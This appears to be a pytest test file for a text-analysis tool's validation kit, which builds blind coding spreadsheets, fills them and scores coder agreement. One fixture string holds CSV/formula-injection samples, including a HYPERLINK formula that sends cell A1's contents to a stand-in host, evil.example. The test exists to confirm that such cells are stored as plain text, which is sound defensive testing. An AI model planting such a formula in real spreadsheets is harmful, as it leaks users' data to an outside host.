"""The validation kit: a blind coding sheet drawn from a small build, filled programmatically, scored back."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import add_document

from tifa.cli import main
from tifa.validation.kit import coding_sheet, fill_sheet, labelled, score_coding
from tifa.config import DATA_RAW
from tifa.errors import InputError
from tifa.pipeline import build

KEEP = ("central-2023-gwr", "weinan-2023-plan", "city-2023-vicemayor-speech", "wuchang-2023-plan")
HOSTILE = ('=HYPERLINK("http://evil.example/?q="&A1,"点击查看")，市场监管局要求各单位认真落实。\n'
           "+1+1 渭南市场监管局按照市委要求部署工作。\n@SUM(1+1)今年完成检查120家次。\n-2 是一个负数。\n")
LM = "language-model coder (protocol only)"


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Path:
    """A build of four seed documents plus one whose sentences begin like spreadsheet formulas."""
    root = tmp_path_factory.mktemp("kit")
    raw = root / "raw"
    shutil.copytree(DATA_RAW, raw, ignore=shutil.ignore_patterns("annotations"))
    meta = pd.read_csv(raw / "metadata.csv", dtype=str, keep_default_na=False)
    for doc_id in set(meta["doc_id"]) - set(KEEP):
        (raw / "documents" / f"{doc_id}.txt").unlink()
    meta[meta["doc_id"].isin(KEEP)].to_csv(raw / "metadata.csv", index=False)
    add_document(raw, "hostile-2023-plan", HOSTILE.encode("utf-8"), level="municipal")
    build(raw, root / "processed", progress=False, workers=1)
    return root / "processed"


def _codes(path: Path, sheet: str) -> list[list[str]]:
    return [[c.value for c in row] for row in openpyxl.load_workbook(path)[sheet].iter_rows()]


def test_the_sheet_holds_the_protocol_first_and_no_label_of_the_rules(small, tmp_path):
    out = tmp_path / "a.xlsx"
    sample = coding_sheet("attribution", 24, 7, small, out)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["protocol", "items", "codes", "key"]
    assert book["key"].sheet_state == "hidden" and book["items"].sheet_state == "visible"
    assert book["protocol"]["A1"].value == "tifa coding sheet: attribution"
    assert "贯彻(落实) X 决策部署" in "\n".join(str(r[0].value) for r in book["protocol"].iter_rows())
    rows = _codes(out, "items")
    assert rows[0] == ["item_id", "doc_id", "level", "issuer", "text", "credits_someone", "authorities", "notes"]
    assert len(rows) == 25 and all(r[5] is None and r[6] is None for r in rows[1:])  # code columns empty
    assert [r[0] for r in rows[1:]] == [f"item{i:04d}" for i in range(1, 25)]
    # the key holds ids only: no class, no stratum, nothing the rules decided
    key = _codes(out, "key")
    assert ["item_id", "doc_id", "key_id"] == key[key.index(["item_id", "doc_id", "key_id"])][:3]
    every_cell = {str(v) for s in book.sheetnames for r in book[s].iter_rows(values_only=True) for v in r if v is not None}
    assert not every_cell & {"credited", "authority word, not credited", "no authority word", *sample["stratum"]}
    # the drop-down lists: yes/no on the code column, the coder kinds on the protocol sheet
    validation = book["items"].data_validations.dataValidation[0]
    assert validation.type == "list" and str(validation.sqref) == "F2:F25" and validation.formula1 == "codes!$A$2:$A$3"
    assert [r[0] for r in _codes(out, "codes")[1:]] == ["yes", "no"]
    assert book["protocol"].data_validations.dataValidation[0].formula1 == f'"person,{LM}"'


def test_strata_get_equal_shares_of_the_sample(small, tmp_path):
    sample = coding_sheet("attribution", 24, 7, small, tmp_path / "a.xlsx")
    sizes = sample["stratum"].value_counts()
    population = labelled("attribution", small)
    assert len(sample) == 24 and sample[["doc_id", "key_id"]].drop_duplicates().shape[0] == 24
    assert set(sample["doc_id"]) == set(population["doc_id"])  # every document is drawn from
    assert sizes.max() - sizes.min() <= 1 or sizes.min() == 1  # equal shares unless a stratum runs out


def test_same_seed_same_bytes_other_seed_other_items(small, tmp_path):
    first = coding_sheet("formulations", 20, 3, small, tmp_path / "a.xlsx")
    again = coding_sheet("formulations", 20, 3, small, tmp_path / "b.xlsx")
    other = coding_sheet("formulations", 20, 4, small, tmp_path / "c.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert first[["doc_id", "key_id"]].equals(again[["doc_id", "key_id"]])
    assert not first[["doc_id", "key_id"]].equals(other[["doc_id", "key_id"]])


def test_cells_are_strings_never_formulas(small, tmp_path):
    out = tmp_path / "f.xlsx"
    sample = coding_sheet("formulations", 500, 1, small, out)  # more than the corpus holds: every sentence
    hostile = sample[sample["doc_id"] == "hostile-2023-plan"]
    assert len(hostile) == 5  # the first line is cut into two sentences at its question mark
    with zipfile.ZipFile(out) as z:
        assert all(b"<f>" not in z.read(name) for name in z.namelist() if name.startswith("xl/worksheets/"))
    items = openpyxl.load_workbook(out)["items"]
    cells = {c.value: c for row in items.iter_rows(min_row=2) for c in row if c.value}
    for text in hostile["text"]:
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix == text.startswith(("=", "+", "-", "@")), text
    assert sorted(t[0] for t in hostile["text"]) == ["+", "-", "=", "@", "q"]


def _flip(code: str) -> str:
    return "no" if code == "yes" else "yes"


def test_filled_sheets_round_trip_to_exact_scores(small, tmp_path):
    sheet = tmp_path / "attribution.xlsx"
    sample = coding_sheet("attribution", 24, 7, small, sheet)
    rules = dict(zip(sample["item_id"], sample["rule_class"]))
    flipped = {"item0001", "item0002", "item0003"}
    fill_sheet(sheet, tmp_path / "ann.xlsx", lambda r: rules[r["item_id"]], "ann", "person")
    fill_sheet(sheet, tmp_path / "lm.xlsx", lambda r: _flip(rules[r["item_id"]]) if r["item_id"] in flipped else rules[r["item_id"]],
               "lm-1", LM)
    scores = score_coding([tmp_path / "ann.xlsx", tmp_path / "lm.xlsx"], small)

    yes = sum(v == "yes" for v in rules.values())
    flipped_yes = sum(rules[i] == "yes" for i in flipped)
    lm_yes = yes - flipped_yes + (len(flipped) - flipped_yes)
    # Krippendorff's alpha, two coders, nominal, no missing values: 1 - (N - 1) * D / (2 n_yes n_no),
    # N = 48 pairable values, D = 2 x 3 disagreeing items (each gives two ordered off-diagonal pairs)
    n_yes, n_no = yes + lm_yes, 48 - yes - lm_yes
    alpha = scores[scores["measure"] == "krippendorff_alpha_nominal"].iloc[0]
    assert alpha["n"] == 24 and alpha["coder"] == f"{LM};person" and alpha["coder_id"] == "ann;lm-1"
    assert alpha["value"] == pytest.approx(1 - 47 * 6 / (2 * n_yes * n_no), abs=1e-4)

    def row(coder_id, measure, cls=""):
        return scores[(scores["coder_id"] == coder_id) & (scores["measure"] == measure) & (scores["class"].fillna("") == cls)].iloc[0]

    assert row("ann", "accuracy")[["n", "k", "value"]].tolist() == [24, 24, 1.0]
    assert row("ann", "recall", "yes")[["n", "k"]].tolist() == [yes, yes]
    assert row("ann", "recall", "yes")["coder"] == "person"
    assert row("lm-1", "accuracy")[["n", "k"]].tolist() == [24, 21]
    assert row("lm-1", "recall", "yes")[["n", "k"]].tolist() == [lm_yes, yes - flipped_yes]
    assert row("lm-1", "precision", "yes")[["n", "k"]].tolist() == [yes, yes - flipped_yes]
    assert row("lm-1", "precision", "no")[["n", "k"]].tolist() == [24 - yes, 24 - yes - (len(flipped) - flipped_yes)]
    assert row("lm-1", "accuracy")["coder"] == LM
    low, high = row("lm-1", "accuracy")[["ci_low", "ci_high"]]
    assert low < 21 / 24 < high


def test_domains_round_trip_through_the_command_line(small, tmp_path, capsys):
    sheet = tmp_path / "domains.xlsx"
    assert main(["coding-sheet", "--task", "domains", "--n", "12", "--seed", "5", "--processed", str(small), "--out", str(sheet)]) == 0
    priorities = labelled("domains", small).set_index("key_id")["rule_class"]
    key = {r[0]: r[2] for r in _codes(sheet, "key") if r[0] and r[0].startswith("item0")}
    fill_sheet(sheet, tmp_path / "d1.xlsx", lambda r: priorities[key[r["item_id"]]], "p1", "person")
    out = tmp_path / "scores.csv"
    assert main(["score-coding", str(tmp_path / "d1.xlsx"), "--processed", str(small), "--out", str(out)]) == 0
    scores = pd.read_csv(out)
    accuracy = scores[scores["measure"] == "accuracy"].iloc[0]
    assert (accuracy["n"], accuracy["k"]) == (12, 12)
    assert scores.loc[scores["measure"] == "krippendorff_alpha_nominal", "note"].iloc[0].startswith("one coder")
    assert set(scores.loc[scores["measure"] == "recall", "class"]) == set(priorities[list(key.values())])
    assert "accuracy" in capsys.readouterr().out


@pytest.fixture
def filled(small, tmp_path) -> Path:
    sheet = tmp_path / "sheet.xlsx"
    coding_sheet("achievements", 10, 2, small, sheet)
    fill_sheet(sheet, tmp_path / "filled.xlsx", lambda r: "no", "c1", "person")
    return tmp_path / "filled.xlsx"


def _edit(path: Path, change) -> Path:
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)
    return path


@pytest.mark.parametrize("change, problem", [
    (lambda b: setattr(b["items"]["E5"], "value", "maybe"), "item item0004 (row 5): reports_result 'maybe' is not a code; allowed: yes, no"),
    (lambda b: [setattr(c, "value", None) for c in b["items"]["E"][1:]], "the sheet was not filled: column reports_result is empty on every item"),
    (lambda b: setattr(b["items"]["E3"], "value", None), "1 item(s) without a code in reports_result (first: item0002, row 3)"),
    (lambda b: setattr(b["items"]["E1"], "value", "result"), "items sheet: missing column(s) reports_result"),
    (lambda b: setattr(b["protocol"]["B4"], "value", "robot"), "coder_kind (protocol sheet, B4) is 'robot'"),
    (lambda b: setattr(b["protocol"]["B3"], "value", None), "no coder named"),
    (lambda b: b.remove(b["key"]), "not a sheet made by `tifa coding-sheet` (no sheet key)"),
    (lambda b: setattr(b["items"]["D5"], "value", "改过的句子。"), "item item0004: its text differs from"),
])
def test_a_bad_fill_is_refused_naming_the_file_and_the_problem(filled, small, change, problem, capsys):
    _edit(filled, change)
    with pytest.raises(InputError) as caught:
        score_coding([filled], small)
    assert caught.value.where == str(filled) and caught.value.problem.startswith(problem)
    assert main(["score-coding", str(filled), "--processed", str(small)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {filled}: {problem}")


def test_a_sheet_of_another_task_or_the_same_coder_twice_is_refused(filled, small, tmp_path):
    with pytest.raises(InputError, match="wrong task: this sheet codes achievements, expected attribution"):
        score_coding([filled], small, task="attribution")
    other = tmp_path / "att.xlsx"
    coding_sheet("attribution", 5, 1, small, other)
    fill_sheet(other, other, lambda r: "no", "c2", "person")
    with pytest.raises(InputError, match="wrong task: this sheet codes attribution, expected achievements") as caught:
        score_coding([filled, other], small)
    assert caught.value.where == str(other)
    twin = tmp_path / "twin.xlsx"
    shutil.copy(filled, twin)
    with pytest.raises(InputError, match="coder 'c1' also coded"):
        score_coding([filled, twin], small)


def test_a_sheet_scored_against_another_build_is_refused(filled, tmp_path):
    with pytest.raises(InputError, match="not a build with documents.csv"):
        score_coding([filled], tmp_path)
    with pytest.raises(InputError, match="not an .xlsx workbook"):
        (tmp_path / "x.xlsx").write_text("not a workbook")
        score_coding([tmp_path / "x.xlsx"], tmp_path)
